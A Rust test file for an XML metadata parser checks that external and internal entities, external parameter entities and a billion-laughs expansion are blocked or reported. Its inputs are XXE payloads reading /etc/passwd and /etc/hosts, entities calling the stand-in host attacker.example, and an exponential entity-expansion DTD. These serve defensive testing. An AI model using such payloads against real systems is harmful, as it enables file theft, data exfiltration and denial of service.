use indoc::indoc;
use serde_json::json;
use xml_metadata::{Advisory, Options, from_str_with_options};

fn guarded() -> Options {
    Options::default()
}

fn unguarded() -> Options {
    xml_metadata::options! { disable_external_entities: false }
}

#[test]
fn external_file_entity_is_never_read() {
    let xml = indoc! {r#"
        <?xml version="1.0"?>
        <!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
        <r>&x;</r>
    "#};
    let doc = from_str_with_options(xml, &guarded()).unwrap();
    assert_eq!(doc.value, json!({"r": null}));
    assert!(doc.is_suspect());

    let advisories = doc.advisories();
    assert!(matches!(advisories[0], Advisory::DoctypeDiscarded { .. }));
    assert!(advisories.iter().any(|a| matches!(
        a,
        Advisory::ExternalEntityDeclared { name, system_id, .. }
            if name == "x" && system_id == "file:///etc/passwd"
    )));
    assert!(
        advisories
            .iter()
            .any(|a| matches!(a, Advisory::EntityRejected { name, .. } if name == "x"))
    );
}

#[test]
fn external_entity_is_not_fetched_even_when_unguarded() {
    let xml = r#"<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/steal">]><r>a&x;b</r>"#;
    let doc = from_str_with_options(xml, &unguarded()).unwrap();
    assert_eq!(doc.value, json!({"r": "ab"}));
    assert_eq!(doc.report.rejected_references, 1);
    assert!(
        doc.advisories()
            .iter()
            .any(|a| matches!(a, Advisory::ExternalEntityDeclared { .. }))
    );
    assert!(
        !doc.advisories()
            .iter()
            .any(|a| matches!(a, Advisory::DoctypeDiscarded { .. }))
    );
}

#[test]
fn internal_entities_are_refused_by_default() {
    let xml = r#"<!DOCTYPE r [<!ENTITY who "world">]><r>hello &who;</r>"#;
    let doc = from_str_with_options(xml, &guarded()).unwrap();
    assert_eq!(doc.value, json!({"r": "hello"}));
    assert_eq!(doc.report.declared_entities, 1);
    assert_eq!(doc.report.rejected_references, 1);
}

#[test]
fn internal_entities_expand_one_level_when_unguarded() {
    let xml = indoc! {r#"
        <!DOCTYPE r [
          <!ENTITY who "world">
          <!ENTITY twice "&who;&who;">
        ]>
        <r><a>hello &who;</a><b>&twice;</b></r>
    "#};
    let doc = from_str_with_options(xml, &unguarded()).unwrap();
    assert_eq!(
        doc.value,
        json!({"r": {"a": "hello world", "b": "&who;&who;"}})
    );
    assert!(!doc.is_suspect());
}

#[test]
fn billion_laughs_does_not_expand() {
    let mut dtd = String::from("<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for level in 1..10 {
        let prev = if level == 1 { "lol".to_owned() } else { format!("lol{}", level - 1) };
        let refs = format!("&{prev};").repeat(10);
        dtd.push_str(&format!("<!ENTITY lol{level} \"{refs}\">\n"));
    }
    dtd.push_str("]>\n<lolz>&lol9;</lolz>");

    let doc = from_str_with_options(&dtd, &guarded()).unwrap();
    assert_eq!(doc.value, json!({"lolz": null}));

    let doc = from_str_with_options(&dtd, &unguarded()).unwrap();
    let text = doc.value["lolz"].as_str().unwrap();
    assert_eq!(text, "&lol8;".repeat(10));
}

#[test]
fn undeclared_entity_is_malformed_when_unguarded() {
    let err = from_str_with_options("<r>&nope;</r>", &unguarded()).unwrap_err();
    assert!(err.is_malformed(), "{err}");
    assert!(err.to_string().contains("undefined entity"), "{err}");
}

#[test]
fn attribute_references_go_through_the_guard() {
    let xml = r#"<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hosts">]><r><n v="a&e;b&amp;c"/></r>"#;
    let doc = from_str_with_options(xml, &guarded()).unwrap();
    assert_eq!(doc.value, json!({"r": {"n": {"@v": "ab&c"}}}));
    assert_eq!(doc.report.rejected_references, 1);
}

#[test]
fn external_parameter_entities_are_reported() {
    let xml = indoc! {r#"
        <!DOCTYPE r [
          <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
          %remote;
        ]>
        <r>ok</r>
    "#};
    for options in [guarded(), unguarded()] {
        let doc = from_str_with_options(xml, &options).unwrap();
        assert_eq!(doc.value, json!({"r": "ok"}));
        assert!(doc.is_suspect());
        assert_eq!(doc.report.doctypes, 1);
        assert_eq!(doc.report.declared_entities, 1);
        assert_eq!(doc.report.rejected_references, 0);
        assert!(doc.advisories().iter().any(|a| matches!(
            a,
            Advisory::ExternalEntityDeclared { name, system_id, .. }
                if name == "remote" && system_id == "http://attacker.example/evil.dtd"
        )));
    }
}

#[test]
fn entity_text_inside_a_literal_is_not_a_declaration() {
    let xml = r#"<!DOCTYPE r [<!ENTITY a "<!ENTITY b SYSTEM 'x'>">]><r>ok</r>"#;
    let doc = from_str_with_options(xml, &unguarded()).unwrap();
    assert_eq!(doc.report.declared_entities, 1);
    assert!(!doc.is_suspect());
}

#[test]
fn plain_documents_are_not_suspect() {
    let doc = from_str_with_options("<r>&lt;ok&gt;</r>", &guarded()).unwrap();
    assert_eq!(doc.value, json!({"r": "<ok>"}));
    assert!(!doc.is_suspect());
    assert_eq!(doc.report.doctypes, 0);
}
